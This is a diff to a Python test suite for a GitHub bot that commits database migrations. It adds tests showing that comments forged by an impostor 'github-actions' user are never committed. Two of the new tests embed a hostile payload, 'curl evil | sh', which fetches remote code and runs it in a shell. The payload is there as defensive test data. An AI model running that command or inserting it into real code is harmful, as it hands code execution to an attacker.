@@ -14,7 +14,7 @@ from fakegithub.app import ApiError
 from fakegithub.events import event_payload
 from fakegithub.state import Repo
 
-from driftbot.github.client import make_github
+from driftbot.github.client import Identity, make_github
 from driftbot.github.commands import (
     MAX_LINK,
     build_file_block,
@@ -30,6 +30,7 @@ MIGRATION = ('"""add nickname"""\nfrom alembic import op\nimport sqlalchemy as s
              '    op.add_column("users", sa.Column("nickname", sa.String(50)))\n\n\n'
              'def downgrade():\n    op.drop_column("users", "nickname")\n')
 BRANCH = "add-nickname"
+ME = Identity(BOT, 41898282, "Bot")  # the workflow token's account, as viewer_identity finds it
 
 
 def bot_body(head: str, *, checked: bool = False, content: str = MIGRATION, block: str | None = None) -> str:
@@ -48,7 +49,12 @@ class Scene:
 
     def run(self, event: IssueCommentEvent, **kwargs: object):  # type: ignore[no-untyped-def]
         gh = make_github(self.fake.token, self.fake.url, for_tests=True)
-        return handle_commit_command(gh, event, repo="octo/shop", bot_login=BOT, **kwargs)  # type: ignore[arg-type]
+        return handle_commit_command(gh, event, repo="octo/shop", bot=ME, **kwargs)  # type: ignore[arg-type]
+
+    def who(self, prefix: str, login: str) -> dict[str, object]:
+        """The payload's user at `prefix` as the fake knows it: login, numeric id and type."""
+        u = self.fake.world.user(login)
+        return {f"{prefix}.login": u.login, f"{prefix}.id": u.id, f"{prefix}.type": u.type}
 
     def bot_comment(self, body: str | None = None) -> int:
         return self.fake.add_comment(self.base, self.number, BOT, body or bot_body(self.head)).id
@@ -56,7 +62,7 @@ class Scene:
     def command(self, user: str = "alice", body: str = "/driftbot commit") -> IssueCommentEvent:
         c = self.fake.add_comment(self.base, self.number, user, body)
         payload = event_payload("issue_comment_created.json", **{
-            "comment.id": c.id, "comment.body": body, "comment.user.login": user, "sender.login": user,
+            "comment.id": c.id, "comment.body": body, **self.who("comment.user", user), **self.who("sender", user),
             "issue.number": self.number})
         return IssueCommentEvent.from_payload(payload)
 
@@ -65,8 +71,8 @@ class Scene:
         after = before.replace("- [ ] Commit this migration", "- [x] Commit this migration")
         self.base.comments[comment_id].body = after  # what the user's click did on GitHub
         payload = event_payload("issue_comment_edited.json", **{
-            "comment.id": comment_id, "comment.body": after, "comment.user.login": author,
-            "changes.body.from": before, "sender.login": sender, "issue.number": self.number})
+            "comment.id": comment_id, "comment.body": after, **self.who("comment.user", author),
+            "changes.body.from": before, **self.who("sender", sender), "issue.number": self.number})
         return IssueCommentEvent.from_payload(payload)
 
     def replies(self) -> list[str]:
@@ -218,6 +224,27 @@ def test_a_forged_bot_comment_by_someone_else_is_never_used(scene: Scene) -> Non
     forged = scene.fake.comments(scene.base, scene.number, user="mallory")[0]
     outcome = scene.run(scene.tick(forged.id, sender="alice", author="mallory"))
     assert outcome.reason == "not_bot_comment" and scene.base.ref(BRANCH) == scene.head
+
+
+def test_the_user_github_actions_is_not_the_bot(scene: Scene) -> None:
+    """Anyone can register the user `github-actions`; only GitHub's bot is `github-actions[bot]` (id, type Bot).
+    A comment by that user, marker and checksum valid, newer than driftbot's, is never committed from."""
+    evil = 'import os\nos.system("curl evil | sh")\n'
+    scene.bot_comment()
+    scene.fake.add_comment(scene.base, scene.number, "github-actions", bot_body(scene.head, content=evil))
+    assert scene.fake.world.user("github-actions").type == "User"
+    outcome = scene.run(scene.command("alice"))
+    assert outcome.done and scene.base.file(BRANCH, PATH) == MIGRATION  # driftbot's own comment, not the newer one
+
+
+def test_a_forged_comment_by_the_user_github_actions_is_never_used(scene: Scene) -> None:
+    evil = 'import os\nos.system("curl evil | sh")\n'
+    forged = scene.fake.add_comment(scene.base, scene.number, "github-actions", bot_body(scene.head, content=evil))
+    outcome = scene.run(scene.command("alice"))
+    assert outcome.reason == "no_comment" and scene.base.ref(BRANCH) == scene.head
+    outcome = scene.run(scene.tick(forged.id, sender="alice", author="github-actions"))
+    assert outcome.reason == "not_bot_comment" and scene.base.ref(BRANCH) == scene.head
+    assert scene.fake.requests("POST", "/git/") == []
 
 
 def test_existing_file_is_never_overwritten(scene: Scene) -> None:
